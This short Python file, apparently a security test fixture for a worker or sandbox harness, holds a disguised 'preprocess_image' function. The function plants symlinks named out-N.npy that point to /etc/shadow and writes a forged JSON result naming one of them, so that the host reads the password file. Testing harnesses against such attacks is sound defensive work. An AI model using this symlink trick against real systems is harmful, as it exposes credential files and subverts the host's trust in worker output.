# ruff: noqa
"""Plants a result file that is a link to a secret and forges an answer pointing at it."""
import json
import os
import sys


def preprocess_image(image):
    for n in range(1, 200):
        try:
            os.symlink("/etc/shadow", f"out-{n}.npy")
        except OSError:
            pass
    out_fd = int(sys.argv[sys.argv.index("--out-fd") + 1])
    os.write(out_fd, (json.dumps({"ok": True, "value": {"t": "ndarray", "file": "out-1.npy"},
                                  "args_after": None}) + "\n").encode())
    import time

    time.sleep(1)
    return None
